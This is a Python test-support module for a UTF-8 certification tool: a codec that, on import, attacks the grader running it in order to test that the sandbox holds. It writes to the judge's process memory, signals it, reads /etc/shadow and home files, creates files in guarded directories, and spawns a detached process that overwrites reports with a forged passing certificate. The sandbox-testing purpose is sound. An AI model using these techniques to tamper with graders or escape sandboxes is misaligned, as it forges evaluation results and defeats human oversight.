"""A codec that attacks its judge from its child process: loadable as `sandbox_probe` (a
correct UTF-8 codec: CPython's) or `support.sandbox_probe:Latin1` (a wrong one, that would need a
forged
report to pass). Run by tests/sandbox/ with these variables in the judge's environment:

- PROBE_TOKEN: a word in the judge's command line (its report's file name), never in its
  directories, by which the probe finds the judge in /proc;
- PROBE_REPORTS: the judge's report paths (os.pathsep between them);
- PROBE_SECRETS: files it tries to read (/etc/shadow, one in the user's home, one in the
  judge's working directory: the user's repository);
- PROBE_PORT: the port of a TCP listener on 127.0.0.1 it tries to connect to;
- PROBE_LOG: a directory the probe may write (`--sandbox-writable`), where each attempt, what
  came of it and the program that made it (its script's name) is written (attempts-*.jsonl),
  the evidence that the attacks were made.

At import, in the child, it tries every attack of issue 31: open /proc/<judge>/mem for writing;
SIGSTOP and SIGUSR1 to the judge (its parent, and every process whose command line holds the
token); create a file in the installed package, its __pycache__, the shipped vectors, the
working directory and the reports' directory; open the package's __init__.py, a vector file
and each report for writing; and start a process (double fork, setsid, a cleared environment,
the token in its command line) that waits for the codec to be gone, then writes a forged
certificate over every report and a `survived` file in PROBE_LOG. None of these writes more
than a file named probe-TOKEN when it gets through, so that a sandbox that fails damages
nothing it guards.
"""

from __future__ import annotations

import codecs
import contextlib
import json
import os
import signal
import socket
import sys
import uuid
from pathlib import Path

FORGED = '{"certified": true, "summary": {"conformant": true, "passed": true}}\n'
"""What the surviving process writes over each report."""

OUTLIVER = """
import os, sys, time, pathlib
codec, token, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
reports, forged = sys.argv[4:-1], sys.argv[-1]
for _ in range(600):  # until the codec is gone: the run is over
    try:
        os.kill(codec, 0)
    except ProcessLookupError:
        break
    time.sleep(0.1)
time.sleep(2)  # the judge has written its reports and exited by now
for report in reports:
    try:
        pathlib.Path(report).write_text(forged)
    except OSError:
        pass
pathlib.Path(log, "survived-" + token).write_text("alive after the run")
"""


def _log(attack: str, target: str, result: str) -> None:
    directory = os.environ.get("PROBE_LOG")
    if not directory:
        return
    # The program tells the attacker apart: a check's child, or a fuzz campaign's codec process.
    program = Path(sys.argv[0]).name if sys.argv else ""
    line = json.dumps({"attack": attack, "target": target, "result": result, "program": program})
    with open(Path(directory, f"attempts-{_RUN}.jsonl"), "a", encoding="utf-8") as log:
        log.write(line + "\n")


def _try(attack: str, target: str, action: object) -> None:
    """Run `action` (a callable), logging 'reached' or the error that stopped it."""
    try:
        action()  # type: ignore[operator]
    except Exception as error:
        _log(attack, target, f"{type(error).__name__}: {error}")
    else:
        _log(attack, target, "reached")


def _judges(token: str) -> set[int]:
    """Return the parent and every process whose command line holds `token` (not this one)."""
    found = {os.getppid()}
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError, ValueError):
            if token.encode() in cmdline.read_bytes():
                found.add(int(cmdline.parent.name))
    found.discard(os.getpid())
    return found


def _create(directory: Path, token: str) -> None:
    if directory.name == "__pycache__":  # Python makes it on first write: so may the codec
        directory.mkdir(exist_ok=True)
    descriptor = os.open(directory / f"probe-{token}", os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    os.close(descriptor)


def _open_for_writing(path: Path) -> None:
    descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)  # nothing written: only the right
    os.close(descriptor)


def _read(path: Path) -> None:
    path.read_bytes()


def _memory(pid: int) -> None:
    with open(f"/proc/{pid}/mem", "r+b"):
        pass


def _outlive(token: str, reports: list[str]) -> None:
    """Start a process that leaves this one's session and environment and outlives the run."""
    log = os.environ.get("PROBE_LOG", "/nonexistent")
    argv = [sys.executable, "-c", OUTLIVER, str(os.getpid()), token, log, *reports, FORGED]
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for descriptor in (0, 1, 2):  # not the judge's pipes: nothing waits on it
                    with contextlib.suppress(OSError):
                        os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
                os.execve(sys.executable, argv, {})
        finally:
            os._exit(0)
    os.wait()


def attack() -> None:
    """Try every attack once, logging each attempt (nothing when PROBE_TOKEN is not set)."""
    token = os.environ.get("PROBE_TOKEN")
    if not token:
        return
    import utf8cert.harness

    reports = [path for path in os.environ.get("PROBE_REPORTS", "").split(os.pathsep) if path]
    for pid in sorted(_judges(token)):
        _try("memory", str(pid), lambda pid=pid: _memory(pid))
        for signum in (signal.SIGSTOP, signal.SIGUSR1):
            _try(f"signal {signum.name}", str(pid), lambda pid=pid, s=signum: os.kill(pid, s))
    package = Path(utf8cert.harness.__file__).parent
    directories = {
        "package": package,
        "bytecode": package / "__pycache__",
        "working directory": Path.cwd(),
        **{f"report directory {n}": Path(r).parent for n, r in enumerate(reports)},
    }
    existing = [package / "__init__.py", *map(Path, reports)]
    try:  # shown only where the judge had loaded them (a fuzz campaign of no vector file: not)
        import utf8cert.vectors

        vectors = Path(next(iter(utf8cert.vectors.__path__)))
        directories["vectors"] = vectors
        existing.append(next(vectors.glob("*.yaml")))
    except (ImportError, OSError) as error:  # hidden, or unreadable: held before any write
        _log("create in vectors", "utf8cert.vectors", f"{type(error).__name__}: {error}")
    for name, directory in directories.items():
        _try(f"create in {name}", str(directory), lambda d=directory: _create(d, token))
    for path in existing:
        _try("open for writing", str(path), lambda p=path: _open_for_writing(p))
    # What a sandbox hides: the machine's secrets, the user's home, a service on 127.0.0.1.
    for secret in filter(None, os.environ.get("PROBE_SECRETS", "").split(os.pathsep)):
        _try("read", secret, lambda s=secret: _read(Path(s)))
    if port := os.environ.get("PROBE_PORT"):
        address = ("127.0.0.1", int(port))
        _try("connect", f"127.0.0.1:{port}", lambda: socket.create_connection(address, 2).close())
    _try("outlive the run", "", lambda: _outlive(token, reports))


_RUN = uuid.uuid4().hex
attack()


def decode(data: bytes) -> str:
    """Return the text of well-formed UTF-8; UnicodeDecodeError for anything else."""
    return data.decode("utf-8")


def decode_replace(data: bytes) -> str:
    """Return the text, each maximal subpart of ill-formed UTF-8 as one U+FFFD."""
    return data.decode("utf-8", "replace")


def encode(text: str) -> bytes:
    """Return the UTF-8 of `text`; UnicodeEncodeError for a surrogate."""
    return text.encode("utf-8")


IncrementalDecoder = codecs.getincrementaldecoder("utf-8")


class Latin1:
    """A wrong codec: ISO 8859-1 for UTF-8 (every byte a character), that refuses nothing."""

    @staticmethod
    def decode(data: bytes) -> str:
        """Return one character a byte: never an error, so never RFC 3629."""
        return data.decode("latin-1")
